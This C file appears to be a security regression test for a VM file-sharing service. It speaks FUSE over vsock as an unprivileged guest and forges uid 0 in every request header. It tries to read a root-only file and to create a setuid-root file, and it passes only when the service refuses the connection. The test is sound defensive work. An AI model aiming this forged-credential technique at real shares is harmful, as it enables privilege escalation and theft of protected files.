// SPDX-License-Identifier: GPL-2.0
/*
 * fuse-attack TAG FILE NEWFILE: what an unprivileged guest process would
 * do to be root over a share (issue 12, row 1). Run as a non-root user,
 * it speaks FUSE to turtle's share service (vsock CID 2, FUSE_VSOCK_PORT)
 * itself, without the kernel, claiming uid 0 in every fuse_in_header: it
 * looks up and reads FILE (root's, mode 0600, in the share's root) and
 * creates NEWFILE setuid-root. turtle must refuse the connection (RST)
 * before any of that runs.
 *
 * Prints one line per step and ends with one verdict:
 *   ATTACK-NOT-UNPRIVILEGED   it could bind a port below 1024: not a test
 *   ATTACK-REFUSED <step>: <why>   connect, hello or the first reply failed
 *   ATTACK-READ <bytes> / ATTACK-CREATED    the share answered: a hole
 *   ATTACK-ANSWERED <step> error <n>        it answered, with an error
 * Exit status 0 only for ATTACK-REFUSED.
 */
#include <errno.h>
#include <linux/fuse.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <linux/vm_sockets.h>

#include "../../fuse-vsock/ports.h"
#include "../../fuse-vsock/proto.h"

static int fd = -1;
static uint64_t unique;
static uint8_t reply[1 << 17];

static int refused(const char *step, const char *why)
{
	printf("ATTACK-REFUSED %s: %s\n", step, why);
	return 0;
}

static int read_full(void *p, size_t len)
{
	size_t got = 0;
	ssize_t n;

	while (got < len) {
		n = read(fd, (uint8_t *)p + got, len - got);
		if (n <= 0)
			return -1;
		got += (size_t)n;
	}
	return 0;
}

/*
 * One request as uid 0; the reply's header and body in reply. Returns
 * the reply's error (0 or negative), or 1 if the stream ended (reset).
 */
static int request(uint32_t opcode, uint64_t nodeid, const void *arg,
		   size_t arg_len)
{
	struct fuse_in_header h = { .len = sizeof(h) + arg_len,
				    .opcode = opcode,
				    .unique = ++unique,
				    .nodeid = nodeid,
				    .uid = 0,
				    .gid = 0,
				    .pid = 1 };
	struct fuse_out_header *o = (void *)reply;

	if (write(fd, &h, sizeof(h)) != sizeof(h) ||
	    (arg_len && write(fd, arg, arg_len) != (ssize_t)arg_len))
		return 1;
	if (read_full(o, sizeof(*o)) || o->len < sizeof(*o) ||
	    o->len > sizeof(reply) ||
	    read_full(reply + sizeof(*o), o->len - sizeof(*o)))
		return 1;
	return o->error;
}

int main(int argc, char **argv)
{
	struct sockaddr_vm a = { .svm_family = AF_VSOCK,
				 .svm_cid = VMADDR_CID_HOST,
				 .svm_port = FUSE_VSOCK_PORT };
	struct sockaddr_vm priv = { .svm_family = AF_VSOCK,
				    .svm_cid = VMADDR_CID_ANY,
				    .svm_port = FUSE_VSOCK_CLIENT_PORT_MAX };
	struct fuse_vsock_hello hello = { .magic = FUSE_VSOCK_MAGIC,
					  .version = FUSE_VSOCK_VERSION };
	struct fuse_vsock_welcome w;
	struct fuse_init_in init = { .major = FUSE_KERNEL_VERSION,
				     .minor = FUSE_KERNEL_MINOR_VERSION };
	struct fuse_open_in oin = { .flags = 0 };
	struct fuse_read_in rin = { .size = 4096 };
	struct {
		struct fuse_create_in c;
		char name[256];
	} cr = { .c = { .flags = 01 | 0100, /* O_WRONLY | O_CREAT */
			.mode = 0104755 } };
	struct timeval tv = { .tv_sec = 30 };
	uint64_t nodeid, fh;
	int t, e;

	if (argc != 4 || strlen(argv[1]) >= sizeof(hello.tag) ||
	    strlen(argv[3]) >= sizeof(cr.name)) {
		fprintf(stderr, "usage: fuse-attack TAG FILE NEWFILE\n");
		return 2;
	}
	strcpy(hello.tag, argv[1]);

	/* The premise: this process cannot bind a privileged port. */
	t = socket(AF_VSOCK, SOCK_STREAM, 0);
	if (t >= 0 && !bind(t, (struct sockaddr *)&priv, sizeof(priv))) {
		printf("ATTACK-NOT-UNPRIVILEGED bound vsock port %u\n",
		       priv.svm_port);
		return 1;
	}
	printf("ATTACK privileged port: %s\n", strerror(errno));
	if (t >= 0)
		close(t);

	fd = socket(AF_VSOCK, SOCK_STREAM, 0);
	if (fd < 0) {
		printf("ATTACK-SETUP-FAIL socket: %s\n", strerror(errno));
		return 1;
	}
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0)
		return refused("connect", strerror(errno));
	printf("ATTACK connected to port %u\n", FUSE_VSOCK_PORT);
	if (write(fd, &hello, sizeof(hello)) != sizeof(hello) ||
	    read_full(&w, sizeof(w)))
		return refused("hello", errno ? strerror(errno) : "closed");
	printf("ATTACK welcome error %d\n", w.error);

	e = request(FUSE_INIT, 0, &init, sizeof(init));
	if (e == 1)
		return refused("init", "no reply");
	if (e) {
		printf("ATTACK-ANSWERED init error %d\n", e);
		return 1;
	}
	e = request(FUSE_LOOKUP, FUSE_ROOT_ID, argv[2], strlen(argv[2]) + 1);
	if (e) {
		printf("ATTACK-ANSWERED lookup error %d\n", e);
		return 1;
	}
	nodeid = ((struct fuse_entry_out *)(reply +
					    sizeof(struct fuse_out_header)))
			 ->nodeid;
	e = request(FUSE_OPEN, nodeid, &oin, sizeof(oin));
	if (!e) {
		fh = ((struct fuse_open_out *)(reply +
					       sizeof(struct fuse_out_header)))
			     ->fh;
		rin.fh = fh;
		e = request(FUSE_READ, nodeid, &rin, sizeof(rin));
		if (!e) {
			struct fuse_out_header *o = (void *)reply;

			printf("ATTACK-READ %.*s\n", (int)(o->len - sizeof(*o)),
			       (char *)reply + sizeof(*o));
		}
	}
	if (e)
		printf("ATTACK-ANSWERED open/read error %d\n", e);
	strcpy(cr.name, argv[3]);
	e = request(FUSE_CREATE, FUSE_ROOT_ID, &cr,
		    sizeof(cr.c) + strlen(cr.name) + 1);
	if (!e)
		printf("ATTACK-CREATED %s\n", argv[3]);
	else
		printf("ATTACK-ANSWERED create error %d\n", e);
	return 1;
}
